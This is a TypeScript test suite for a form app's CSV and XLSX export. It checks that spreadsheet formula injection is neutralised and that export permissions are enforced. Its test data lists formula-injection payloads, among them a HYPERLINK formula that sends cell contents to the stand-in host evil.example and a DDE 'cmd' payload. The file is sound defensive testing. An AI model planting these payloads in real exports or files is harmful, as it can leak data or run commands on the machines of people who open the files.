import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { up as addExportRight } from '../../server/db/migrations/20261207T0300-export-right.js';
import { expectError } from '../support/checks.js';
import { engines } from '../support/engines.js';
import { type Client, type TestServer, startServer } from '../support/server.js';

async function download(s: TestServer, client: Client, path: string) {
  const cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const res = await s.app.request(path, { headers: { cookie } });
  return { status: res.status, bytes: new Uint8Array(await res.arrayBuffer()) };
}

async function importAndWait(client: Client, formId: string, bytes: Uint8Array) {
  const form = new FormData();
  form.append('file', new Blob([bytes as BlobPart]), 'export.csv');
  const r = await client.raw('POST', `/api/forms/${formId}/import`, { body: form });
  expect(r.status, JSON.stringify(r.body)).toBe(202);
  for (let i = 0; i < 600; i++) {
    const job = (await client.get(`/api/imports/${r.body.jobId}`)).body;
    if (job.status === 'succeeded' || job.status === 'failed') return job;
    await new Promise((res) => setTimeout(res, 20));
  }
  throw new Error('import did not finish');
}

/** Text a spreadsheet would run as a formula, and plain values next to it. */
const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tcmd',
  '\rcmd',
];
const harmless = ['普通客户', 'a=b', "it's", ' =1'];

describe.each(engines)('exports are safe to open and need their own right on %s', (engine) => {
  let s: TestServer;
  let admin: Client;
  let reader: Client;
  let exporter: Client;
  let mixed: Client;
  let form: any;
  const names = [...attacks, ...harmless];

  beforeAll(async () => {
    s = await startServer(engine);
    admin = await s.client();
    const app = (await admin.post('/api/apps', { name: '客户管理' })).body;
    form = (
      await admin.post(`/api/apps/${app.id}/forms`, {
        key: 'customers',
        name: '客户',
        fields: [
          { key: 'name', type: 'text', label: '客户名称' },
          { key: 'score', type: 'number', label: '=1+1' },
          { key: 'amount', type: 'currency', label: '金额' },
        ],
      })
    ).body;
    const role = async (name: string, grants: unknown[]) =>
      (await admin.post('/api/roles', { name, grants })).body.id as string;
    const person = async (name: string, roleIds: string[]) => {
      const r = await admin.post('/api/users', {
        email: `${name}@example.com`,
        name,
        password: 'User-pass-1',
        roleIds,
      });
      expect(r.status).toBe(201);
      return { id: r.body.id as string, client: await s.client(`${name}@example.com`, 'User-pass-1') };
    };
    const readAll = await role('只读', [{ formId: form.id, actions: ['read'], scope: 'all' }]);
    const exportAll = await role('导出', [{ formId: form.id, actions: ['read', 'export'], scope: 'all' }]);
    const exportOwn = await role('导出自己的', [
      { formId: form.id, actions: ['read', 'export'], scope: 'own' },
    ]);
    reader = (await person('reader', [readAll])).client;
    exporter = (await person('exporter', [exportAll])).client;
    const m = await person('mixed', [readAll, exportOwn]);
    mixed = m.client;
    const records = names.map((name, i) => ({ fields: { name, score: i === 0 ? -5 : i, amount: -12.5 } }));
    expect((await admin.post(`/api/forms/${form.id}/records/batch`, { records })).status).toBe(201);
    expect(
      (await admin.post(`/api/forms/${form.id}/records`, { fields: { name: '我的客户' }, ownerId: m.id }))
        .status,
    ).toBe(201);
  });
  afterAll(() => s?.close());

  it('prefixes CSV text that a spreadsheet would run as a formula with a quote, and leaves numbers and harmless text alone', async () => {
    const r = await download(s, exporter, `/api/forms/${form.id}/export?format=csv&sort=createdAt`);
    expect(r.status).toBe(200);
    const text = Buffer.from(r.bytes).toString('utf8');
    const rows = parse(text, { bom: true, relax_quotes: true }) as string[][];
    expect(rows[0]).toEqual(['客户名称', "'=1+1", '金额']);
    const byName = rows.slice(1);
    expect(byName.slice(0, attacks.length).map((row) => row[0])).toEqual(attacks.map((a) => `'${a}`));
    expect(byName.slice(attacks.length, names.length).map((row) => row[0])).toEqual(harmless);
    expect(byName[0].slice(1)).toEqual(['-5', '-12.5']);
    // Every cell of the file, read as a spreadsheet would, starts harmlessly.
    for (const row of rows)
      for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports a quoted CSV cell back as the text that was exported', async () => {
    // (Leading and trailing blanks are trimmed by the import, tabs and CRs with them: those are left out.)
    const fields = [
      { key: 'name', type: 'text', label: '客户名称' },
      { key: 'score', type: 'number', label: '=1+1' },
      { key: 'amount', type: 'currency', label: '金额' },
    ];
    const copy = (
      await admin.post(`/api/apps/${form.appId}/forms`, { key: 'customersCopy', name: '客户副本', fields })
    ).body;
    const filter = encodeURIComponent(
      JSON.stringify({ field: 'name', op: 'in', value: [...attacks.slice(0, 4), ...harmless.slice(0, 3)] }),
    );
    const file = await download(s, exporter, `/api/forms/${form.id}/export?format=csv&filter=${filter}`);
    const job = await importAndWait(admin, copy.id, file.bytes);
    expect(job, JSON.stringify(job.errors)).toMatchObject({ status: 'succeeded', created: 7, failed: 0 });
    const listing = async (id: string) =>
      (await admin.get(`/api/forms/${id}/records?filter=${filter}&sort=name`)).body.items.map(
        (x: any) => x.fields,
      );
    expect(await listing(copy.id)).toEqual(await listing(form.id));
  });

  it('writes XLSX text as strings, never formulas, with the values unchanged', async () => {
    const r = await download(s, exporter, `/api/forms/${form.id}/export?format=xlsx&sort=createdAt`);
    expect(r.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.bytes.buffer as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((c) => cells.push(c)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    expect(sheet.getRow(1).getCell(2).value).toBe('=1+1');
    expect(sheet.getRow(1).getCell(2).type).toBe(ExcelJS.ValueType.String);
    const first = names.map((_, i) => sheet.getRow(i + 2).getCell(1));
    // XML turns a carriage return into a line feed when read; the text is otherwise kept as is.
    expect(first.map((c) => c.value)).toEqual(names.map((n) => n.replace(/\r/g, '\n')));
    expect(first.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(sheet.getRow(2).getCell(2).value).toBe(-5);
    expect(sheet.getRow(2).getCell(3).value).toBe(-12.5);
  });

  it('refuses an export to someone who may read the records but was not given the export right', async () => {
    expect((await reader.get(`/api/forms/${form.id}/records`)).status).toBe(200);
    expectError(await reader.get(`/api/forms/${form.id}/export?format=csv`), 403);
    expectError(await reader.get(`/api/forms/${form.id}/export?format=xlsx`), 403);
    expect((await reader.get(`/api/forms/${form.id}/access`)).body.actions).not.toContain('export');
    expect((await exporter.get(`/api/forms/${form.id}/access`)).body.actions).toContain('export');
    expect((await admin.get(`/api/forms/${form.id}/access`)).body.actions).toContain('export');
  });

  it('exports only the records a grant with the export right covers, even when another role reads more', async () => {
    expect((await mixed.get(`/api/forms/${form.id}/records?limit=100`)).body.items).toHaveLength(
      names.length + 1,
    );
    const r = await download(s, mixed, `/api/forms/${form.id}/export?format=csv`);
    expect(r.status).toBe(200);
    const rows = parse(Buffer.from(r.bytes).toString('utf8'), { bom: true }) as string[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual(['我的客户']);
  });

  it('keeps exports working for roles that could read before the right existed, and only for them', async () => {
    const at = new Date().toISOString();
    const grants = (actions: string[]) => JSON.stringify([{ formId: form.id, actions, scope: 'all' }]);
    await s.db.db
      .insertInto('roles')
      .values([
        {
          id: 'rol_oldreader0000000000',
          name: '旧只读',
          description: null,
          grants: grants(['read']),
          created_at: at,
          updated_at: at,
        },
        {
          id: 'rol_oldwriter0000000000',
          name: '旧录入',
          description: null,
          grants: grants(['create']),
          created_at: at,
          updated_at: at,
        },
      ] as any)
      .execute();
    await addExportRight(s.db.db);
    const after = async (id: string) =>
      JSON.parse(
        (await s.db.db.selectFrom('roles').select('grants').where('id', '=', id).executeTakeFirstOrThrow())
          .grants,
      )[0].actions;
    expect(await after('rol_oldreader0000000000')).toEqual(['read', 'export']);
    expect(await after('rol_oldwriter0000000000')).toEqual(['create']);
  });

  it('installs the suite with its read-only roles unable to export', async () => {
    const installed = await admin.post('/api/templates/crm-suite/install', { sampleData: false });
    expect(installed.status, JSON.stringify(installed.body).slice(0, 300)).toBe(201);
    const roles = (await admin.get('/api/roles')).body.items as Array<{
      name: string;
      grants: Array<{ actions: string[] }>;
    }>;
    const actionsOf = (name: string) => roles.find((r) => r.name === name)!.grants.flatMap((g) => g.actions);
    expect(actionsOf('管理层（只读）')).not.toContain('export');
    expect(actionsOf('客户经理')).not.toContain('export');
    expect(actionsOf('客户服务主管')).toContain('export');
  });
});
